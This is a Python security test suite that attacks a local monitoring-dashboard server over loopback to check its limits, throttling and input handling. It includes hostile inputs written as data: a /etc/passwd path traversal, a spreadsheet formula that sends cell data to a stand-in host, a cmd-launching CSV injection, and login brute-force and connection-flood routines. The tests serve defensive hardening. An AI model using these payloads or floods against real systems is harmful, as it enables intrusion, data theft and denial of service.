#!/usr/bin/env python3
"""hostile_test: `shanshui serve` attacked the way a stranger would, over real sockets on loopback.

Each test reproduces one attack that once worked (issue 8) and asserts that the server keeps
serving a well-behaved station (its acknowledgement within 1 s) and the dashboard (/api/health
within 1 s), and that disk and memory stay within the budgets of docs/security.md. Attackers
come from their own loopback addresses (127.0.0.x), so throttling one never touches the others.
Every loop is bounded in count and time; nothing leaves the machine.

Usage: hostile_test.py PATH/TO/shanshui SOURCE_DIR
"""
import concurrent.futures, json, os, random, resource, shutil, socket, sqlite3, subprocess, sys, tempfile, threading, time
import unittest
import http.client
sys.path.insert(0, os.path.join(os.path.dirname(os.path.abspath(__file__)), "..", "support"))
from peers import crc, frame, free_port  # noqa: E402

BIN, SRC = sys.argv[1], sys.argv[2]
GOOD_MN, GOOD_PW = "GOODSTATION01", "good-pw-2027"
BRUTE_MN, BRUTE_PW = "BRUTESTATION1", "s3cret-pw-42"
ADMIN_PW = "admin-test-2027"

# The client opens a few thousand sockets: take the hard limit.
_soft, _hard = resource.getrlimit(resource.RLIMIT_NOFILE)
resource.setrlimit(resource.RLIMIT_NOFILE, (_hard, _hard))






def hourly(mn, pw, data_time, pm25="35", qn="20260101000000000"):
    return frame(f"QN={qn};ST=22;CN=2061;PW={pw};MN={mn};Flag=5;CP=&&DataTime={data_time};"
                 f"a34004-Avg={pm25},a34004-Flag=N&&")




def cli(*args, check=True, stdin=None):
    r = subprocess.run([BIN, *args], capture_output=True, text=True, input=stdin, timeout=300)
    if check and r.returncode != 0:
        raise AssertionError(f"shanshui {' '.join(args)} failed: {r.stderr}")
    return r


def connect(port, source="127.0.0.1", timeout=5):
    s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
    s.settimeout(timeout)
    s.bind((source, 0))
    s.connect(("127.0.0.1", port))
    return s


class Http:
    """A small HTTP/1.1 client over a socket bound to a chosen loopback source address."""

    def __init__(self, port, source="127.0.0.1", timeout=10):
        self.port, self.source, self.timeout = port, source, timeout

    def request(self, method, path, body=None, headers=None):
        c = http.client.HTTPConnection("127.0.0.1", self.port, timeout=self.timeout, source_address=(self.source, 0))
        h = dict(headers or {})
        data = body if body is None or isinstance(body, (bytes, str)) else json.dumps(body)
        if data is not None:
            h.setdefault("Content-Type", "application/json")
        try:
            c.request(method, path, body=data, headers=h)
            r = c.getresponse()
            return r.status, {k.lower(): v for k, v in r.getheaders()}, r.read()
        finally:
            c.close()


def raw_http(port, data: bytes, source="127.0.0.1", timeout=5):
    """Sends bytes as they are and returns the status line's code (or None if the server closed)."""
    s = connect(port, source, timeout)
    try:
        s.sendall(data)
        got = b""
        while b"\r\n" not in got:
            chunk = s.recv(4096)
            if not chunk:
                break
            got += chunk
        return int(got.split(b" ")[1]) if got.startswith(b"HTTP/1.1 ") else None
    finally:
        s.close()


class Server:
    """One `shanshui serve` with the dashboard and the HJ 212 listener, a plan, an admin and two stations."""

    def __init__(self, *extra):
        self.dir = tempfile.mkdtemp(prefix="shanshui-hostile-")
        self.db = os.path.join(self.dir, "h.db")
        cli("plan", "import", "--db", self.db, os.path.join(SRC, "data/plans/wushan-2023-2027.yaml"))
        cli("user", "add", "--db", self.db, "--name", "admin", "--role", "admin", "--password", ADMIN_PW)
        cli("user", "add", "--db", self.db, "--name", "eeb", "--role", "department", "--department", "eeb",
            "--password", "eeb-test-2027")
        cli("station", "add", "--db", self.db, "--mn", GOOD_MN, "--kind", "air", "--name", "good", "--password", GOOD_PW)
        cli("station", "add", "--db", self.db, "--mn", BRUTE_MN, "--kind", "air", "--name", "target", "--password", BRUTE_PW)
        self.http_port, self.hj_port = free_port(), free_port()
        self.log = open(os.path.join(self.dir, "serve.log"), "w+")
        self.proc = subprocess.Popen([BIN, "serve", "--db", self.db, "--http-port", str(self.http_port), "--hj212-port",
                                      str(self.hj_port), "--web", os.path.join(SRC, "web/public"), *extra],
                                     stderr=self.log, stdout=subprocess.DEVNULL)
        deadline = time.time() + 20
        while time.time() < deadline:
            try:
                if Http(self.http_port).request("GET", "/api/health")[0] in (200, 503):
                    break
            except OSError:
                time.sleep(0.1)
        self.hour = 0
        self.http = Http(self.http_port)

    def stop(self):
        if self.proc.poll() is None:
            self.proc.terminate()
            self.proc.wait(timeout=30)
        self.log.close()
        shutil.rmtree(self.dir, ignore_errors=True)

    def alive(self):
        return self.proc.poll() is None

    def rss_mb(self):
        with open(f"/proc/{self.proc.pid}/status") as f:
            for line in f:
                if line.startswith("VmRSS:"):
                    return int(line.split()[1]) / 1024
        return 0

    def cpu_seconds(self):
        with open(f"/proc/{self.proc.pid}/stat") as f:
            fields = f.read().rsplit(")", 1)[1].split()
        return (int(fields[11]) + int(fields[12])) / os.sysconf("SC_CLK_TCK")

    def disk_mb(self):
        return sum(os.path.getsize(os.path.join(self.dir, n)) for n in os.listdir(self.dir) if n.startswith("h.db")) / 1e6

    def query(self, sql, *args):
        con = sqlite3.connect(self.db, timeout=30)
        try:
            return con.execute(sql, args).fetchall()
        finally:
            con.close()

    def health_seconds(self):
        """GET /api/health from the county network (127.0.0.1): (status, seconds)."""
        t0 = time.time()
        status, _, _ = Http(self.http_port, timeout=5).request("GET", "/api/health")
        return status, time.time() - t0

    def good_ack_seconds(self):
        """The well-behaved station sends one hour and waits for its acknowledgement: seconds."""
        self.hour += 1
        t = time.gmtime(time.time() + 8 * 3600 - 3600 * (100 + self.hour))
        dt = time.strftime("%Y%m%d%H0000", t)
        s = connect(self.hj_port)
        try:
            t0 = time.time()
            s.sendall(hourly(GOOD_MN, GOOD_PW, dt, qn=f"{dt}000"))
            got = b""
            while b"\r\n" not in got:
                chunk = s.recv(4096)
                if not chunk:
                    raise AssertionError("the listener closed the good station's connection")
                got += chunk
            elapsed = time.time() - t0
            assert b"CN=9014" in got, got
            return elapsed
        finally:
            s.close()


class ServedTestCase(unittest.TestCase):
    """Each test class gets its own server; `assert_serving` is the common check."""

    extra = ()

    @classmethod
    def setUpClass(cls):
        cls.server = Server(*cls.extra)

    @classmethod
    def tearDownClass(cls):
        cls.server.stop()

    def assert_serving(self, label):
        s = self.server
        self.assertTrue(s.alive(), f"{label}: the process died")
        status, secs = s.health_seconds()
        self.assertEqual(status, 200, f"{label}: /api/health")
        self.assertLess(secs, 1.0, f"{label}: /api/health took {secs:.2f} s")
        ack = s.good_ack_seconds()
        self.assertLess(ack, 1.0, f"{label}: the good station's ack took {ack:.2f} s")

    def during(self, attack, label, probes=3):
        """Runs `attack` in a thread and checks the server in the meantime and afterwards."""
        errors = []

        def run():
            try:
                attack()
            except Exception as e:  # noqa: BLE001 - reported below
                errors.append(e)

        t = threading.Thread(target=run)
        t.start()
        for _ in range(probes):
            time.sleep(0.5)
            self.assert_serving(f"{label} (during)")
        t.join(timeout=60)
        self.assertFalse(t.is_alive(), f"{label}: the attack did not end")
        self.assertEqual(errors, [], f"{label}: the attack itself failed")
        self.assert_serving(f"{label} (after)")


class HttpParsing(ServedTestCase):
    def test_deeply_nested_json_is_refused_not_a_crash(self):
        h = self.server.http
        for path in ("/api/login", "/api/reports", "/api/measurements"):
            status, _, body = h.request("POST", path, body="[" * 100000)
            self.assertIn(status, (400, 401, 403), path)
        status, _, body = h.request("POST", "/api/login", body="[" * 100000)
        self.assertEqual(status, 400)
        self.assertIn("nested deeper", json.loads(body)["error_en"])
        self.assertIn("嵌套", json.loads(body)["error"])
        self.assert_serving("nested JSON")

    def test_limits_on_the_request_itself(self):
        p = self.server.http_port
        host = b"Host: x\r\n"
        self.assertEqual(raw_http(p, b"POST /api/login HTTP/1.1\r\n" + host +
                                  b"Content-Length: 5\r\nContent-Length: 50\r\n\r\nhello"), 400)
        self.assertEqual(raw_http(p, b"POST /api/login HTTP/1.1\r\n" + host +
                                  b"Content-Length: 5, 6\r\n\r\nhello"), 400)
        self.assertEqual(raw_http(p, b"POST /api/login HTTP/1.1\r\n" + host +
                                  b"Transfer-Encoding: chunked\r\n\r\n0\r\n\r\n"), 501)
        self.assertEqual(raw_http(p, b"GET /api/health HTTP/1.1\r\n" + host +
                                  b"X-Big: " + b"a" * 20000 + b"\r\n\r\n"), 431)
        self.assertEqual(raw_http(p, b"GET /" + b"a" * 9000 + b" HTTP/1.1\r\n" + host + b"\r\n"), 414)
        self.assertEqual(raw_http(p, b"GET /api/health HTTP/1.1\r\n" + host +
                                  b"".join(b"X-%d: 1\r\n" % i for i in range(100)) + b"\r\n"), 431)
        self.assertEqual(raw_http(p, b"POST /api/login HTTP/1.1\r\n" + host +
                                  b"Content-Length: 5000000\r\n\r\n"), 413)
        self.assertEqual(raw_http(p, b"GET /api/health HTTP/1.1\r\nHost : x\r\n\r\n"), 400)  # space before ':'
        self.assertEqual(raw_http(p, b"GET /api/health HTTP/1.1\r\n\r\n"), 400)  # HTTP/1.1 needs Host
        self.assertEqual(raw_http(p, b"GET /api/health HTTP/2.0\r\n" + host + b"\r\n"), 505)
        self.assertEqual(raw_http(p, b"GET /%2e%2e/%2e%2e/etc/passwd HTTP/1.1\r\n" + host + b"\r\n"), 404)
        self.assert_serving("malformed requests")

    def test_security_headers_and_exact_cookies(self):
        h = self.server.http
        for path in ("/", "/api/health", "/api/no-such-route", "/app.js"):
            _, headers, _ = h.request("GET", path)
            self.assertEqual(headers.get("x-content-type-options"), "nosniff", path)
            self.assertIn("frame-ancestors 'none'", headers.get("content-security-policy", ""), path)
            self.assertIn("script-src 'self'", headers.get("content-security-policy", ""), path)
            self.assertEqual(headers.get("referrer-policy"), "no-referrer", path)
        status, headers, body = h.request("POST", "/api/login", {"username": "admin", "password": ADMIN_PW})
        self.assertEqual(status, 200)
        self.assertNotIn("Secure", headers["set-cookie"])  # plain HTTP here; --behind-tls adds it
        token = json.loads(body)["token"]
        self.assertEqual(h.request("GET", "/api/supervision", headers={"Cookie": f"session={token}"})[0], 200)
        # the cookie must be named exactly "session": "xsession=…" or "session_old=…" is nobody
        for cookie in (f"xsession={token}", f"a=1; my_session={token}", f"session_old={token}"):
            self.assertEqual(h.request("GET", "/api/supervision", headers={"Cookie": cookie})[0], 401, cookie)

    def test_errors_do_not_reveal_paths(self):
        s = self.server
        s.query("ALTER TABLE closures RENAME TO closures_hidden")
        try:
            status, _, body = s.http.request("GET", "/api/progress?as_of=2026-02-03")
            self.assertEqual(status, 500)
            doc = json.loads(body)
            msg = doc["error"] + doc["error_en"]
            self.assertNotIn(s.dir, msg)
            self.assertNotIn(".db", msg)
            self.assertNotIn("closures", msg)  # no SQL either
            self.assertIn("internal error #", msg)
        finally:
            s.query("ALTER TABLE closures_hidden RENAME TO closures")

    def test_view_cache_is_bounded_and_keyed_on_what_matters(self):
        s, h = self.server, self.server.http
        h.request("GET", "/api/progress")
        before = s.rss_mb()
        for i in range(1500):  # free query strings: one cache entry, not 1,500
            self.assertEqual(h.request("GET", f"/api/progress?junk={i}")[0], 200)
        grown = s.rss_mb() - before
        self.assertLess(grown, 40, f"RSS grew {grown:.0f} MB for 1,500 distinct query strings")
        before = s.rss_mb()
        for day in range(1, 366):  # distinct as_of dates are distinct views: bounded in bytes (64 MB)
            date = time.strftime("%Y-%m-%d", time.gmtime(time.mktime((2025, 1, 1, 0, 0, 0, 0, 0, 0)) + day * 86400))
            self.assertEqual(h.request("GET", f"/api/progress?as_of={date}")[0], 200)
        grown = s.rss_mb() - before
        self.assertLess(grown, 160, f"RSS grew {grown:.0f} MB for 365 cached views")
        self.assert_serving("cache")


class HttpUploads(ServedTestCase):
    """Evidence uploads take larger bodies than anything else: strangers must not multiply them."""

    extra = ("--evidence-budget-mb", "1")

    def login(self):
        _, _, body = self.server.http.request("POST", "/api/login", {"username": "eeb", "password": "eeb-test-2027"})
        return {"Authorization": "Bearer " + json.loads(body)["token"], "Content-Type": "application/octet-stream"}

    def test_strangers_cannot_hold_many_large_bodies(self):
        s = self.server
        rss = s.rss_mb()
        head = b"POST /api/evidence?name=x.pdf HTTP/1.1\r\nHost: x\r\nContent-Length: 8000000\r\n\r\n%PDF-"
        held = []
        for i in range(4):  # four uploads may be in flight at once, each trickling its body
            c = connect(s.http_port, f"127.0.0.{40 + i}")
            c.sendall(head + b"0" * 100000)
            held.append(c)
        time.sleep(0.3)
        # the fifth, from anywhere, is told to come back later instead of taking more memory
        self.assertEqual(raw_http(s.http_port, head, "127.0.0.50"), 503)
        self.assertLess(s.rss_mb() - rss, 60)
        self.assert_serving("large bodies held open")
        for c in held:
            c.close()
        time.sleep(0.3)
        # slots come back: a stranger's complete upload is refused for want of a login, not of a slot
        self.assertEqual(Http(s.http_port, "127.0.0.51").request(
            "POST", "/api/evidence?name=x.pdf", b"%PDF-" + b"0" * 2000000,
            {"Content-Type": "application/octet-stream"})[0], 401)
        self.assertEqual(s.query("SELECT count(*) FROM evidence_files")[0][0], 0)

    def test_the_storage_budget_holds(self):
        s, h = self.server, self.login()
        statuses = [s.http.request("POST", f"/api/evidence?name=scan{i}.pdf", b"%PDF-1.7 " + os.urandom(300000), h)[0]
                    for i in range(5)]
        self.assertEqual(statuses[:3], [201, 201, 201])  # 3 × 0.3 MB fit in 1 MiB …
        self.assertEqual(statuses[3:], [507, 507])       # … the rest do not, and are not stored
        self.assertEqual(s.query("SELECT count(*) FROM evidence_files")[0][0], 3)
        self.assert_serving("storage budget")


class HttpLogin(ServedTestCase):
    def test_huge_usernames_are_refused_before_anything_is_stored(self):
        s = self.server
        rows = s.query("SELECT count(*) FROM login_failures")[0][0] + s.query("SELECT count(*) FROM audit")[0][0]
        disk = s.disk_mb()
        for _ in range(76):
            status, _, _ = Http(s.http_port, "127.0.0.20").request(
                "POST", "/api/login", {"username": "u" * 200000, "password": "x"})
            self.assertEqual(status, 400)
        # over the body limit: refused from the headers alone, before the body is read
        self.assertEqual(raw_http(s.http_port, b"POST /api/login HTTP/1.1\r\nHost: x\r\nContent-Length: 1100000\r\n\r\n",
                                  "127.0.0.20"), 413)
        self.assertEqual(s.query("SELECT count(*) FROM login_failures")[0][0] + s.query("SELECT count(*) FROM audit")[0][0], rows)
        self.assertLess(s.disk_mb() - disk, 0.5)

    def test_guessing_cannot_lock_out_the_real_admin(self):
        s = self.server
        attacker = Http(s.http_port, "127.0.0.21")
        statuses = [attacker.request("POST", "/api/login", {"username": "admin", "password": f"guess{i}"})[0] for i in range(40)]
        # five wrong answers, then waits that double (a slow machine may let one or two more through)
        self.assertTrue(5 <= statuses.count(401) <= 7, statuses)
        self.assertEqual(statuses.count(401) + statuses.count(429), 40)
        status, headers, _ = attacker.request("POST", "/api/login", {"username": "admin", "password": "guess"})
        self.assertEqual(status, 429)
        self.assertGreaterEqual(int(headers["retry-after"]), 1)
        # the real admin, from the office's address, gets in at once
        status, _, body = Http(s.http_port, "127.0.0.1").request("POST", "/api/login", {"username": "admin", "password": ADMIN_PW})
        self.assertEqual(status, 200, body)

    def test_parallel_guesses_are_counted_before_hashing(self):
        s = self.server
        before = s.rss_mb()
        attacker = Http(s.http_port, "127.0.0.22", timeout=30)
        with concurrent.futures.ThreadPoolExecutor(64) as pool:
            statuses = list(pool.map(lambda i: attacker.request("POST", "/api/login",
                                                                 {"username": "eeb", "password": f"p{i}"})[0], range(164)))
        self.assertLessEqual(statuses.count(401), 5, statuses)
        self.assertEqual(statuses.count(401) + statuses.count(429) + statuses.count(503), 164)
        grown = s.rss_mb() - before
        print(f"\n  164 parallel guesses: {statuses.count(401)} checked, {statuses.count(429)} throttled, "
              f"RSS +{grown:.0f} MB", file=sys.stderr)
        self.assertLess(grown, 150, f"RSS grew {grown:.0f} MB")  # was 3.1 GB
        status, _, _ = Http(s.http_port, "127.0.0.1").request("POST", "/api/login", {"username": "eeb", "password": "eeb-test-2027"})
        self.assertEqual(status, 200)

    def test_timing_does_not_tell_which_users_exist(self):
        s = self.server
        times = {"admin": [], "nobody-here": []}
        for i in range(6):  # interleaved, each from its own address (no throttling in the way)
            for user, base in (("admin", 70), ("nobody-here", 80)):
                t0 = time.time()
                status, _, _ = Http(s.http_port, f"127.0.0.{base + i}").request("POST", "/api/login",
                                                                                 {"username": user, "password": f"w{i}"})
                times[user].append(time.time() - t0)
                self.assertEqual(status, 401)
        # the fastest of each: the shared machine's load only ever adds time (before: 58–110 ms vs 2–5 ms)
        known, unknown = min(times["admin"]), min(times["nobody-here"])
        ratio = known / unknown
        print(f"\n  login timing: known user {known * 1000:.0f} ms, unknown {unknown * 1000:.0f} ms", file=sys.stderr)
        self.assertTrue(0.5 < ratio < 2.0, f"known {known * 1000:.0f} ms vs unknown {unknown * 1000:.0f} ms")


class HttpBehindAProxy(ServedTestCase):
    extra = ("--trusted-proxy", "127.0.0.90")

    def test_throttling_follows_the_client_behind_a_trusted_proxy(self):
        s = self.server
        proxy = Http(s.http_port, "127.0.0.90")
        attacker = {"X-Forwarded-For": "10.9.9.9"}
        statuses = [proxy.request("POST", "/api/login", {"username": "admin", "password": f"g{i}"}, attacker)[0] for i in range(12)]
        self.assertIn(429, statuses)
        # the real admin comes through the same proxy from another client address: not throttled
        status, _, body = proxy.request("POST", "/api/login", {"username": "admin", "password": ADMIN_PW},
                                        {"X-Forwarded-For": "203.0.113.7, 10.1.1.1"})
        self.assertEqual(status, 200, body)
        # a client that is not the proxy cannot pick its own address with X-Forwarded-For
        stranger = Http(s.http_port, "127.0.0.91")
        statuses = [stranger.request("POST", "/api/login", {"username": "eeb", "password": f"g{i}"},
                                     {"X-Forwarded-For": f"10.0.0.{i}"})[0] for i in range(12)]
        self.assertTrue(5 <= statuses.count(401) <= 7, statuses)


class HttpConnections(ServedTestCase):
    def test_slow_clients_do_not_take_the_dashboard_down(self):
        s = self.server
        socks = []
        for i in range(300):  # three addresses, 100 each (under the per-address cap)
            c = connect(s.http_port, f"127.0.0.{30 + i // 100}")
            c.sendall(b"GET /api/health HTTP/1.1\r\nHost: x\r\n")
            socks.append(c)

        def trickle():
            end = time.time() + 4
            while time.time() < end:
                for c in socks:
                    try:
                        c.sendall(b"X")
                    except OSError:
                        pass
                time.sleep(0.5)

        self.during(trickle, "300 slow clients")
        time.sleep(7)  # past the 10 s header deadline: each slow client was answered 408 and closed
        closed = 0
        for c in socks:
            c.settimeout(2)
            try:
                data = c.recv(4096)
                closed += data == b"" or data.startswith(b"HTTP/1.1 408")
            except OSError:
                closed += 1
            c.close()
        self.assertEqual(closed, 300)

    def test_idle_connections_do_not_take_the_dashboard_down(self):
        s = self.server
        socks = []
        for i in range(2100):  # more than the 2,000 cap, from 21 addresses
            try:
                socks.append(connect(s.http_port, f"127.0.1.{i // 100 + 1}"))
            except OSError:
                pass
        self.assertGreater(len(socks), 1900)
        self.assert_serving("2,100 idle connections")
        for c in socks:
            c.close()

    def test_one_address_cannot_take_every_connection(self):
        s = self.server
        socks = [connect(s.http_port, "127.0.0.40") for _ in range(200)]
        refused = 0
        for c in socks[128:]:
            c.settimeout(2)
            try:
                refused += c.recv(4096).startswith(b"HTTP/1.1 503")
            except OSError:
                pass
        self.assertEqual(refused, 72)
        self.assert_serving("200 connections from one address")
        for c in socks:
            c.close()


class HttpData(ServedTestCase):
    def login(self, user, pw):
        status, _, body = self.server.http.request("POST", "/api/login", {"username": user, "password": pw})
        self.assertEqual(status, 200)
        return {"Authorization": "Bearer " + json.loads(body)["token"]}

    def test_reports_only_for_periods_that_have_begun(self):
        h = self.server.http
        auth = self.login("eeb", "eeb-test-2027")
        item = "T18.1"  # led by eeb (县生态环境局)
        for period, why in (("9999-Q4", "outside the plan"), ("2027-Q4", "has not begun")):
            status, _, body = h.request("POST", "/api/reports", {"item": item, "period": period, "status": "in_progress",
                                                                 "percent": 10, "narrative": "x"}, auth)
            self.assertEqual(status, 400, period)
            self.assertIn(why, json.loads(body)["error_en"])

    def test_formulas_do_not_reach_the_csv_export(self):
        h = self.server.http
        auth = self.login("eeb", "eeb-test-2027")
        item = "T18.1"  # led by eeb (县生态环境局)
        narrative = "=HYPERLINK(\"http://example.invalid/\"&A1,\"点击\")"
        evidence = "@SUM(1+1)*cmd|' /C calc'!A0"
        status, _, body = h.request("POST", "/api/reports", {"item": item, "period": "2025-Q1", "status": "in_progress",
                                                             "percent": 10, "narrative": narrative, "evidence": evidence}, auth)
        self.assertEqual(status, 201, body)
        status, _, csv = h.request("GET", "/api/export/csv", headers=auth)
        text = csv.decode("utf-8")
        self.assertNotIn(",=HYPERLINK", text)
        self.assertNotIn(",\"=HYPERLINK", text)
        self.assertIn("'=HYPERLINK", text)
        self.assertIn("'@SUM", text)
        # the xlsx export: the evidence cell is text that a clerk editing it cannot turn into a formula
        import io, openpyxl
        status, _, xlsx = h.request("GET", "/api/export/xlsx", headers=auth)
        self.assertEqual(status, 200)
        cells = [c.value for ws in openpyxl.load_workbook(io.BytesIO(xlsx)).worksheets for row in ws.iter_rows() for c in row
                 if isinstance(c.value, str) and "SUM(1+1)" in c.value]
        self.assertEqual(cells, ["'" + evidence])

    def test_public_observation_reads_are_paged(self):
        s = self.server
        path = os.path.join(s.dir, "obs.csv")
        with open(path, "w") as f:
            f.write("mn,factor,time,value,kind,flag\n")
            for hour in range(12000):
                t = time.strftime("%Y-%m-%d %H:00:00", time.gmtime(time.mktime((2024, 1, 1, 0, 0, 0, 0, 0, 0)) + hour * 3600))
                f.write(f"{GOOD_MN},a34004,{t},{20 + hour % 30},Avg,N\n")
        cli("obs", "import", "--db", s.db, path)
        status, _, body = s.http.request("GET", f"/api/stations/{GOOD_MN}/observations?limit=100000")
        self.assertEqual(status, 200)
        rows = json.loads(body)
        self.assertEqual(len(rows), 5000)
        self.assertLess(rows[0]["time"], rows[-1]["time"])  # newest last
        status, _, body = s.http.request("GET", f"/api/stations/{GOOD_MN}/observations")
        self.assertEqual(len(json.loads(body)), 500)
        status, _, body = s.http.request("GET", f"/api/stations/{GOOD_MN}/observations?from=2024-01-01&to=2024-01-02&limit=10")
        rows = json.loads(body)
        self.assertEqual(len(rows), 10)
        self.assertTrue(rows[0]["time"].startswith("2024-01-01T00"))

    def test_health_says_what_it_knows(self):
        status, _, body = self.server.http.request("GET", "/api/health")
        doc = json.loads(body)
        self.assertEqual(status, 200)
        self.assertTrue(doc["database_writable"])
        self.assertEqual(doc["hj212"]["queue_capacity"], 20000)
        self.assertIn("queue_depth", doc["hj212"])
        self.assertGreater(doc["hj212"]["quarantine_budget_per_hour"], 0)


    def test_health_is_honest_when_the_database_cannot_be_written(self):
        s = self.server
        time.sleep(2.1)  # past every worker's last probe
        con = sqlite3.connect(s.db, timeout=30, isolation_level=None)
        con.execute("BEGIN EXCLUSIVE")  # another process holds the database: nothing can be written
        try:
            status, _, body = Http(s.http_port, timeout=30).request("GET", "/api/health")
            doc = json.loads(body)
            self.assertEqual(status, 503, doc)
            self.assertEqual(doc["status"], "degraded")
            self.assertFalse(doc["database_writable"])
            self.assertNotIn(s.dir, body.decode())
        finally:
            con.execute("ROLLBACK")
            con.close()
        time.sleep(2.1)
        status, _, body = s.http.request("GET", "/api/health")
        self.assertEqual(status, 200, body)


class Hj212Floods(ServedTestCase):
    def test_random_bytes_fill_neither_disk_nor_memory(self):
        s = self.server
        disk, rss = s.disk_mb(), s.rss_mb()
        rng = random.Random(8)
        junk = bytes(rng.getrandbits(8) for _ in range(1 << 16))
        sent = [0]

        def flood():
            end = time.time() + 5
            while time.time() < end:
                try:
                    c = connect(s.hj_port, "127.0.0.50", timeout=1)
                    while time.time() < end:
                        c.sendall(junk)
                        sent[0] += len(junk)
                except OSError:
                    time.sleep(0.05)

        self.during(flood, "random bytes")
        rows = s.query("SELECT count(*), coalesce(sum(length(bytes)), 0) FROM quarantine WHERE peer LIKE '127.0.0.50:%'")[0]
        print(f"\n  random bytes: {sent[0] / 1e6:.0f} MB sent in 5 s → {rows[0]} quarantine rows, {rows[1] / 1e3:.0f} KB kept, "
              f"disk +{s.disk_mb() - disk:.2f} MB, RSS +{s.rss_mb() - rss:.0f} MB", file=sys.stderr)
        self.assertLessEqual(rows[1], 1 << 20, rows)  # the per-address hourly budget
        self.assertLess(s.disk_mb() - disk, 3)
        self.assertLess(s.rss_mb() - rss, 100)

    def test_header_junk_is_collapsed(self):
        s = self.server
        disk = s.disk_mb()

        def flood():
            c = connect(s.hj_port, "127.0.0.51")
            try:
                c.sendall(b"##xx" * (2_500_000))  # 10 MB
            except OSError:
                pass  # dropped after ten refusals
            c.close()

        self.during(flood, "##xx flood")
        rows = s.query("SELECT count(*) FROM quarantine WHERE peer LIKE '127.0.0.51:%'")[0][0]
        print(f"\n  '##xx' × 2.5 M (10 MB): {rows} quarantine rows, disk +{s.disk_mb() - disk:.2f} MB", file=sys.stderr)
        self.assertLessEqual(rows, 10)
        self.assertLess(s.disk_mb() - disk, 1.5)

    def test_oversize_frames_are_cut(self):
        s = self.server
        disk = s.disk_mb()
        big = b"##9999" + b"A" * 12000 + b"\r\n"

        def flood():
            for _ in range(50):
                try:
                    c = connect(s.hj_port, "127.0.0.52", timeout=1)
                    for _ in range(20):
                        c.sendall(big)
                    c.close()
                except OSError:
                    time.sleep(0.1)

        self.during(flood, "oversize frames")
        kept = s.query("SELECT max(length(bytes)) FROM quarantine WHERE peer LIKE '127.0.0.52:%'")[0][0] or 0
        self.assertLessEqual(kept, 16384)
        self.assertLess(s.disk_mb() - disk, 1.5)

    def test_valid_flood_gets_back_pressure_not_memory(self):
        s = self.server
        cli("station", "add", "--db", s.db, "--mn", "FLOOD0001", "--kind", "air")
        time.sleep(1.5)  # the listener re-reads the registry every second
        rss = s.rss_mb()
        base = time.time() - 86400
        acks = [0] * 8

        def read_acks(c, n):
            got = b""
            while got.count(b"\r\n") < n:
                chunk = c.recv(65536)
                if not chunk:
                    break
                got += chunk
            return got.count(b"CN=9014")

        def flood(k):
            def run():
                try:
                    c = connect(s.hj_port, "127.0.0.53", timeout=10)
                    c.setblocking(True)
                    blob = b"".join(hourly("FLOOD0001", "x", time.strftime("%Y%m%d%H0000", time.gmtime(base - 3600 * (k * 2000 + i))),
                                           pm25=str(i % 90), qn=f"2026{k:02d}{i:09d}00") for i in range(2000))
                    c.settimeout(20)
                    reader = threading.Thread(target=lambda: acks.__setitem__(k, read_acks(c, 2000)))
                    reader.start()
                    c.sendall(blob)
                    reader.join(timeout=30)
                    c.close()
                except OSError:
                    pass
            return run

        threads = [threading.Thread(target=flood(k)) for k in range(8)]

        def all_floods():
            for t in threads:
                t.start()
            for t in threads:
                t.join()

        self.during(all_floods, "8 connections of valid frames", probes=4)
        stored = s.query("SELECT count(*) FROM observations WHERE mn = 'FLOOD0001'")[0][0]
        print(f"\n  valid flood: 16,000 frames on 8 connections, {sum(acks)} acknowledged, {stored} values stored, "
              f"RSS +{s.rss_mb() - rss:.0f} MB", file=sys.stderr)
        self.assertEqual(sum(acks), 16000)  # back-pressure slows the sender; nothing is lost
        self.assertEqual(stored, 16000)
        self.assertLess(s.rss_mb() - rss, 300)


class Hj212Peers(ServedTestCase):
    def test_passwords_cannot_be_brute_forced_and_are_never_echoed(self):
        s = self.server
        guesses = [0]

        def brute():
            end = time.time() + 5
            i = 0
            while time.time() < end:
                try:
                    c = connect(s.hj_port, "127.0.0.60", timeout=1)
                    while time.time() < end:
                        i += 1
                        c.sendall(hourly(BRUTE_MN, f"guess{i}", "20260101000000", qn=f"2026010100{i:09d}"))
                        guesses[0] += 1
                except OSError:
                    time.sleep(0.05)

        self.during(brute, "password guessing")
        tried = s.query("SELECT count(*) FROM quarantine WHERE reason LIKE 'wrong password%' AND peer LIKE '127.0.0.60:%'")[0][0]
        print(f"\n  password guessing: {guesses[0]} frames sent in 5 s, {tried} reached the password check", file=sys.stderr)
        self.assertLessEqual(tried, 12, f"{tried} guesses reached the password check in 5 s (was 55,000)")
        # the right password from the penalised address: the connection is closed unread
        c = connect(s.hj_port, "127.0.0.60")
        try:
            c.sendall(hourly(BRUTE_MN, BRUTE_PW, "20260101000000"))
            c.settimeout(2)
            self.assertEqual(c.recv(4096), b"")
        except OSError:
            pass
        c.close()
        # the station itself, from its own address, is not locked out; its ack carries no password
        c = connect(s.hj_port, "127.0.0.61")
        c.sendall(hourly(BRUTE_MN, BRUTE_PW, "20260101010000", qn="20260101010000000"))
        reply = c.recv(4096)
        c.close()
        self.assertIn(b"CN=9014", reply)
        self.assertNotIn(BRUTE_PW.encode(), reply)
        self.assertIn(b"PW=;", reply)

    def test_values_far_in_the_future_are_quarantined(self):
        s = self.server
        c = connect(s.hj_port, "127.0.0.62")
        c.sendall(hourly(GOOD_MN, GOOD_PW, "20990101000000", pm25="999", qn="20990101000000000"))
        c.settimeout(1.5)
        try:
            self.assertEqual(c.recv(4096), b"")  # no acknowledgement
        except socket.timeout:
            pass
        c.close()
        time.sleep(0.5)
        reasons = [r[0] for r in s.query("SELECT reason FROM quarantine WHERE mn = ?", GOOD_MN)]
        self.assertTrue(any("outside the accepted window" in r for r in reasons), reasons)
        self.assertEqual(s.query("SELECT count(*) FROM observations WHERE data_time LIKE '2099%'")[0][0], 0)

    def test_impossible_values_are_acknowledged_but_not_counted(self):
        s = self.server
        used = json.loads(s.http.request("GET", f"/api/air/daily?mn={GOOD_MN}&year=2026")[2])["hours_used"]
        c = connect(s.hj_port)
        c.sendall(hourly(GOOD_MN, GOOD_PW, "20260303000000", pm25="-5", qn="20260303000000000"))
        self.assertIn(b"CN=9014", c.recv(4096))  # acknowledged: the logger must not resend it
        c.close()
        rows = s.query("SELECT value, invalid FROM observations WHERE mn = ? AND data_time = '2026-03-03T00:00:00+08:00'", GOOD_MN)
        self.assertEqual(rows, [("-5", "a34004 -5 is negative")])
        listed = json.loads(cli("hj212", "quarantine", "--db", s.db, "--json").stdout)
        self.assertTrue(any(e.get("reason") == "implausible: a34004 -5 is negative" for e in listed), listed)
        status, _, body = s.http.request("GET", f"/api/air/daily?mn={GOOD_MN}&year=2026")
